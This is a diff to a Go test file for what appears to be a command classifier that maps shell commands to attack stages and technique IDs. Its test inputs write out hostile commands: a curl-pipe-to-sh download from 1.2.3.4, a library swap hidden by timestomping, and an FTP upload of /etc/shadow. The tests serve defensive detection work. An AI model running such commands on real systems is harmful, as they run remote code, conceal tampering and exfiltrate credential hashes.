@@ -354,6 +354,12 @@ func TestPlaceReasonNamesWhatMatched(t *testing.T) {
 			"(inferred: ", "worker"},
 		{"detached job's download", PlaceInput{Default: StageNone, Kind: exec, Command: "curl -fsS http://1.2.3.4:8001/t | sh", WebServer: true, Adopted: true, WebUser: true},
 			"(inferred: ", "a web server's shell runs"},
+		// a timestomp hides a change; it sends nothing, whatever it is
+		// placed with. With an upload, the upload is what the reason says
+		{"timestomp", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "cp /tmp/l.so lib.so && touch -r lib.so.bak lib.so && rm -rf /tmp/x", WebServer: true, WebUser: true},
+			"timestomp, T1070.006", "sends data out"},
+		{"timestomp and upload", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "touch -r a b; curl -T /etc/shadow ftp://1.2.3.4/", WebServer: true, WebUser: true},
+			"sends data out", "timestomp"},
 	} {
 		_, why := Place(tc.in)
 		if !strings.Contains(why, tc.want) || tc.not != "" && strings.Contains(why, tc.not) {
